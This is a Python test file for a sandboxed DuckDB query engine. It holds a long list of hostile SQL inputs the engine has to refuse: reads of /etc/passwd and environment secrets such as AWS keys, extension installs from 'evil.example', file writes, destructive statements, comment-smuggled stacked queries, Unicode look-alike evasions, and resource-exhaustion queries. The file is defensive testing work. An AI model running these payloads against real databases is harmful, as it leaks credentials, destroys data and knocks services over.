"""Every way we know to make a query read, write, reach or break what it must not: refused, and the
worker goes on."""

from __future__ import annotations

from pathlib import Path

import pytest
from enginekit import failure, opened, small_project
from sampling import mostly_slow

from sharekit.engines.duckdb.engine import DuckDBEngine

REFUSED = """
SELECT * FROM '/etc/passwd'
FROM '/etc/passwd'
FROM "/etc/passwd"
FROM 'flights.csv'
FROM 'https://example.com/x.csv'
FROM 's3://bucket/x.parquet'
FROM '/proc/self/environ'
FROM 'data/*.parquet'
SELECT * FROM "file.csv" AS flights
SELECT * FROM flights, '/etc/passwd'
SELECT (SELECT count(*) FROM '/etc/passwd')
SELECT * FROM flights WHERE EXISTS (FROM '/etc/passwd')
WITH x AS (FROM '/etc/passwd') SELECT * FROM x
SELECT * FROM flights JOIN LATERAL (FROM '/etc/passwd') ON true
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('/etc/passwd')
SELECT * FROM READ_CSV('/etc/passwd')
SELECT * FROM main.read_csv('/etc/passwd')
SELECT * FROM system.main.read_csv('/etc/passwd')
SELECT * FROM "read_csv"('/etc/passwd')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_blob('/etc/passwd')
SELECT * FROM read_json('/etc/passwd')
SELECT * FROM read_json_auto('/etc/passwd')
SELECT * FROM read_json_objects('/etc/passwd')
SELECT * FROM read_ndjson('/etc/passwd')
SELECT * FROM read_ndjson_objects('/etc/passwd')
SELECT * FROM read_parquet('x.parquet')
SELECT * FROM parquet_scan('x.parquet')
SELECT * FROM parquet_metadata('x.parquet')
SELECT * FROM parquet_schema('x.parquet')
SELECT * FROM parquet_file_metadata('x.parquet')
SELECT * FROM parquet_kv_metadata('x.parquet')
SELECT * FROM parquet_bloom_probe('x.parquet', 'a', 1)
SELECT * FROM read_duckdb('x.duckdb')
SELECT * FROM sniff_csv('/etc/passwd')
SELECT * FROM glob('/etc/*')
SELECT * FROM glob('/home/**')
SELECT * FROM arrow_scan(1, 2, 3)
SELECT * FROM pandas_scan(1)
SELECT * FROM python_map_function(1)
SELECT * FROM seq_scan('flights')
SELECT unnest(glob) FROM (SELECT * FROM glob('*'))
SELECT * FROM query('SELECT 1')
SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')
SELECT * FROM query_table('flights')
SELECT * FROM query_table(['flights'])
SELECT * FROM json_execute_serialized_sql('{}')
SELECT json_execute_serialized_sql('{}')
SELECT json_serialize_plan('SELECT 1')
COPY flights TO 'out.csv'
COPY (SELECT 1) TO '/tmp/out.csv'
COPY flights FROM 'in.csv'
COPY FROM DATABASE memory TO other
EXPORT DATABASE 'out'
IMPORT DATABASE 'in'
ATTACH 'other.duckdb'
ATTACH 'other.duckdb' AS other (READ_WRITE)
ATTACH 'host=localhost' AS pg (TYPE postgres)
DETACH memory
INSTALL httpfs
LOAD httpfs
LOAD '/tmp/evil.duckdb_extension'
FORCE INSTALL httpfs FROM 'http://evil.example'
UPDATE EXTENSIONS
PRAGMA database_list
PRAGMA enable_profiling
PRAGMA show_tables
PRAGMA table_info('flights')
PRAGMA import_database('x')
SET memory_limit = '100GB'
SET threads = 100
SET enable_external_access = true
SET lock_configuration = false
SET GLOBAL temp_directory = '/etc'
SET VARIABLE x = 1
RESET memory_limit
SELECT current_setting('home_directory')
SELECT current_setting('temp_directory') FROM flights
SELECT system.main.current_setting('threads')
SELECT pg_catalog.current_setting('threads')
SELECT getenv('HOME')
SELECT getenv('AWS_SECRET_ACCESS_KEY')
SELECT getvariable('x')
SELECT * FROM enable_profiling(save_location = 'profile.json')
SELECT * FROM enable_profiling()
SELECT * FROM disable_profiling()
SELECT * FROM enable_logging(storage = 'file')
CALL enable_logging(storage_path = '/tmp/log')
CALL enable_profiling()
CALL pragma_version()
SELECT write_log('hello')
SELECT * FROM duckdb_logs
SELECT * FROM duckdb_logs()
SELECT * FROM truncate_duckdb_logs()
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_settings
SELECT * FROM duckdb_secrets()
SELECT * FROM which_secret('s3://x', 's3')
SELECT * FROM duckdb_extensions()
SELECT * FROM duckdb_databases()
SELECT * FROM duckdb_tables
SELECT * FROM duckdb_views()
SELECT sql FROM duckdb_views()
SELECT * FROM duckdb_columns()
SELECT * FROM duckdb_variables()
SELECT * FROM duckdb_temporary_files()
SELECT * FROM duckdb_memory()
SELECT * FROM duckdb_functions()
SELECT * FROM pragma_database_size()
SELECT * FROM pragma_storage_info('flights')
SELECT * FROM pragma_table_info('flights')
SELECT * FROM pragma_user_agent()
SELECT * FROM information_schema.tables
SELECT * FROM information_schema.columns
SELECT * FROM pg_catalog.pg_tables
SELECT * FROM pg_tables
SELECT * FROM pg_views
SELECT * FROM sqlite_master
SELECT * FROM sqlite_schema
SELECT * FROM source_0.main.data
SELECT * FROM source_0.data
SELECT * FROM memory.main.flights
SELECT * FROM rollups.main.x
SELECT * FROM metrics.flights
SELECT * FROM main.on_time
SELECT pg_get_viewdef(1)
SELECT pg_catalog.pg_get_expr('x', 1)
SELECT has_table_privilege('flights', 'select')
SELECT pg_sleep(100)
SELECT sleep_ms(100000)
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
DROP SECRET s
CREATE TABLE x (a INT)
CREATE TEMP TABLE x AS SELECT 1
CREATE OR REPLACE VIEW flights AS SELECT 1
CREATE MACRO as_of() AS DATE '1999-01-01'
CREATE SEQUENCE s
CREATE SCHEMA s
CREATE TYPE t AS ENUM ('a')
DROP TABLE flights
DROP VIEW flights
ALTER TABLE flights RENAME TO f
INSERT INTO flights VALUES (1)
UPDATE flights SET delay = 0
DELETE FROM flights
TRUNCATE flights
MERGE INTO flights USING carriers ON true WHEN MATCHED THEN DELETE
WITH x AS (INSERT INTO flights VALUES (1) RETURNING *) SELECT * FROM x
WITH x AS (DELETE FROM flights RETURNING *) SELECT * FROM x
WITH x AS (UPDATE flights SET delay = 0 RETURNING *) SELECT * FROM x
SELECT nextval('s')
SELECT currval('s')
SELECT setseed(0.5)
BEGIN
COMMIT
ROLLBACK
CHECKPOINT
FORCE CHECKPOINT
SELECT * FROM checkpoint()
SELECT * FROM force_checkpoint()
VACUUM
ANALYZE
USE memory
USE metrics
PREPARE p AS SELECT 1
EXECUTE p
DEALLOCATE p
EXPLAIN SELECT 1
EXPLAIN ANALYZE SELECT 1
DESCRIBE flights
SHOW TABLES
SHOW ALL TABLES
SHOW DATABASES
SUMMARIZE flights
SELECT * FROM (DESCRIBE flights)
SELECT * FROM (SHOW TABLES)
SELECT * FROM (SUMMARIZE flights)
SELECT * FROM (SHOW ALL TABLES)
FROM (DESCRIBE (FROM flights))
SELECT * FROM summary(1)
SELECT ?
SELECT $1
SELECT $name
SELECT 1; SELECT 2
SELECT 1; DROP VIEW flights
SELECT 1; ATTACH 'x.duckdb'
SELECT 1 --\\n; DROP VIEW flights
SELECT 1 /* ; */ ; DROP VIEW flights --
/* SELECT 1 */ COPY flights TO 'out.csv'
-- SELECT\\nPRAGMA version
SELECT/**/*/**/FROM/**/read_text/**/('/etc/passwd')
SELECT * FROM read_text\\n(\\n'/etc/passwd'\\n)
SELECT * FROM\u00a0read_text('/etc/passwd')
SELECT * FROM \uff52\uff45\uff41\uff44_\uff54\uff45\uff58\uff54('/etc/passwd')
SELECT * FROM re\u0430d_text('/etc/passwd')
SELECT * FROM fl\u0456ghts
SELECT * FROM \u212alights
SELECT * FROM "flights "
SELECT * FROM "main.flights"
SELECT * FROM "metrics.on_time"
WITH flights AS (SELECT 1 AS a) SELECT * FROM flights
WITH FLIGHTS AS (SELECT 1 AS a) SELECT * FROM flights
WITH "flights" AS (FROM flights) SELECT * FROM "flights"
WITH metrics AS (SELECT 1) SELECT * FROM metrics
SELECT * FROM (WITH carriers AS (SELECT 1) SELECT * FROM carriers), carriers
WITH "/etc/passwd" AS (SELECT 1) SELECT * FROM "/etc/passwd"
WITH "x.csv" AS (SELECT 1) FROM (SELECT 1)
WITH duckdb_settings AS (SELECT 1) SELECT * FROM duckdb_settings
WITH pg_tables AS (SELECT 1) SELECT 1
SELECT * FROM (WITH x AS (SELECT 1) FROM x), x
SELECT * FROM x, (WITH x AS (SELECT 1) FROM x)
WITH a AS (FROM b), b AS (SELECT 1) SELECT * FROM a
WITH x AS (FROM x) SELECT * FROM x
PIVOT flights ON origin USING count(*)
PIVOT '/etc/passwd' ON a IN (1) USING count(*)
UNPIVOT '/etc/passwd' ON a INTO NAME n VALUE v
SELECT * FROM (PIVOT (FROM '/etc/passwd') ON a IN (1) USING count(*))
SELECT * FROM flights TABLESAMPLE 10% (FROM '/etc/passwd')
SELECT list_transform([1], lambda x: (SELECT count(*) FROM '/etc/passwd'))
SELECT list_transform(['x'], lambda x: current_setting(x))
SELECT * FROM flights ORDER BY (SELECT count(*) FROM '/etc/passwd')
SELECT * FROM flights LIMIT (SELECT count(*) FROM '/etc/passwd')
SELECT count(*) FILTER (WHERE current_setting('threads') = '2') FROM flights
SELECT sum(delay) OVER (ORDER BY current_setting('threads')) FROM flights
SELECT COLUMNS(c -> current_setting(c) IS NOT NULL) FROM flights
SELECT * REPLACE (current_setting('threads') AS origin) FROM flights
SELECT CASE WHEN true THEN current_setting('threads') END
SELECT {'a': current_setting('threads')}
VALUES (current_setting('threads'))
FROM (VALUES (current_setting('threads')))
SELECT 'x'.current_setting()
SELECT * FROM range(length(current_setting('threads')))
SELECT * FROM unnest([current_setting('threads')])
SELECT * FROM repeat('x', 3)
SELECT * FROM repeat_row(1, num_rows = 3)
SELECT * FROM test_all_types()
SELECT * FROM histogram('flights', delay)
SELECT * FROM histogram_values('flights', delay)
SELECT * FROM pg_timezone_names()
SELECT * FROM register_external_resource('x')
SELECT * FROM create_external_resource('x')
SELECT __internal_compress_string_utinyint('x')
SELECT json_deserialize_sql('{}')
SELECT * FROM http_get('http://example.com')
SELECT * FROM st_read('/etc/passwd')
SELECT * FROM from_substrait('x'::BLOB)
SELECT * FROM sqlite_scan('x.db', 't')
SELECT * FROM postgres_scan('host=localhost', 'public', 't')
SELECT * FROM postgres_query('pg', 'SELECT 1')
SELECT * FROM mysql_query('db', 'SELECT 1')
SELECT * FROM iceberg_scan('x')
SELECT * FROM delta_scan('x')
SELECT * FROM read_xlsx('x.xlsx')
SELECT * FROM secret_frame
SELECT * FROM os
SELECT * FROM sys
""".strip().splitlines()

FAILS_BY_ITSELF = """
RESET ALL
SELECT list_aggregate([1], 'current_setting')
SELECT list_aggregate(['/etc/passwd'], 'read_text')
SELECT * FROM flights AT (VERSION => 1)
SELECT 'x'::evil_type
SELECT * FROM json_each((SELECT content FROM (SELECT 1 AS other)))
""".strip().splitlines()
"""Statements for which DuckDB itself has no meaning here."""

BOMBS = {
    "rows without end": ("SELECT * FROM range(1000000000000)", "too-many-rows"),
    "a count that lasts": ("SELECT count(*) FROM range(1000000000000)", "timeout"),
    "cross joins": ("SELECT count(*) FROM range(1000000) a, range(1000000) b, range(1000000) c", "timeout"),
    "generate_series": ("SELECT sum(x) FROM generate_series(1, 1000000000000) t(x)", "timeout"),
    "recursion without end": (
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        "timeout memory",
    ),
    "recursion that doubles": (
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r, range(10)) SELECT max(n) FROM r",
        "timeout memory",
    ),
    "a string of 4 GB": ("SELECT length(repeat('x', 4000000000))", "memory failed"),
    "strings of 100 MB": ("SELECT max(repeat(i::VARCHAR, 50000000)) FROM range(1000) t(i)", "memory timeout"),
    "a string that doubles": (
        "WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM r) SELECT max(length(s)) FROM r",
        "memory failed timeout",
    ),
    "a list without end": ("SELECT len(range(10000000000))", "memory failed timeout"),
    "lists of lists": ("SELECT len(list(range(100000))) FROM range(1000000)", "memory timeout failed"),
    "padding": ("SELECT sum(length(lpad('x', 100000000, 'y') || i)) FROM range(100) t(i)", "memory timeout failed"),
    "string_agg": ("SELECT length(string_agg(repeat('x', 10000), ',')) FROM range(1000000)", "memory timeout failed"),
    "distinct values": ("SELECT count(DISTINCT md5(i::VARCHAR)) FROM range(200000000) t(i)", "timeout memory"),
    "a sort": (
        "SELECT max(m) FROM (SELECT md5(i::VARCHAR) m FROM range(500000000) t(i) ORDER BY 1 LIMIT 900000000)",
        "timeout memory",
    ),
    "a pattern": (
        "SELECT sum(regexp_matches(repeat('a', 5000) || i, '(a*)*(a*)*(a*)*b')::INT) FROM range(3000000) t(i)",
        "timeout",
    ),
    "edit distance": ("SELECT levenshtein(repeat('a', 200000), repeat('b', 200000))", "timeout memory failed"),
    "a wide result": ("SELECT repeat('x', 1000000) FROM range(900)", "failed memory timeout"),
    "the parser, with commas": ("FROM t" + ",t" * 32_000, "memory unknown-table syntax timeout"),
    "the parser, with brackets": ("SELECT " + "(" * 60_000, "timeout memory syntax"),
    "the parser, with comments": ("/*" * 32_000 + " SELECT 1", "timeout memory syntax"),
    "depth": ("SELECT " + "(SELECT " * 3_000 + "1" + ")" * 3_000, "syntax refused memory timeout"),
    "depth in FROM": ("SELECT * FROM (" * 3_000 + "SELECT 1" + ")" * 3_000, "syntax refused memory timeout"),
    "a query too long": ("SELECT 1 -- " + "x" * 70_000, "refused"),
    "a NUL": ("SELECT 1\x00; DROP VIEW flights", "refused"),
    "half a character": ("SELECT '\ud800'", "refused"),
}  # fmt: skip


@pytest.mark.parametrize("sql", mostly_slow(REFUSED, quick=50))
def test_query_is_refused(engine: DuckDBEngine, sql: str) -> None:
    pid = engine.pid

    error = failure(engine, sql.replace("\\n", "\n"))

    assert error.fault in ("refused", "unknown-table", "unknown-function", "syntax")
    assert error.message
    assert engine.query("SELECT count(*) FROM flights").rows == ((7,),)
    assert engine.pid == pid, "the worker had to be started again"


@pytest.mark.parametrize("sql", FAILS_BY_ITSELF)
def test_query_has_no_meaning(engine: DuckDBEngine, sql: str) -> None:
    pid = engine.pid

    assert failure(engine, sql).message
    assert engine.query("SELECT count(*) FROM flights").rows == ((7,),)
    assert engine.pid == pid


@pytest.mark.slow
@pytest.mark.parametrize("name", BOMBS)
def test_bomb_fails_alone(strict_engine: DuckDBEngine, name: str) -> None:
    sql, faults = BOMBS[name]

    assert failure(strict_engine, sql).fault in faults.split()
    assert strict_engine.query("SELECT count(*) FROM flights").rows == ((7,),)


def test_attack_in_a_view_fails_only_its_readers(tmp_path: Path) -> None:
    items = {
        "_spy": "SELECT * FROM read_text('/etc/passwd')",
        "leak": "SELECT * FROM metrics._spy",
        "fine": "SELECT count(*) AS value FROM flights",
    }
    with opened(small_project(tmp_path, items=items)) as engine:
        error = failure(engine, "SELECT * FROM metrics.leak")

        assert "metrics._spy" in error.message
        assert "read_text" in error.message
        assert engine.query("SELECT * FROM metrics.fine").rows == ((7,),)


def test_there_are_enough_attacks() -> None:
    assert len(set(REFUSED)) == len(REFUSED)
    assert len(REFUSED) + len(BOMBS) > 250
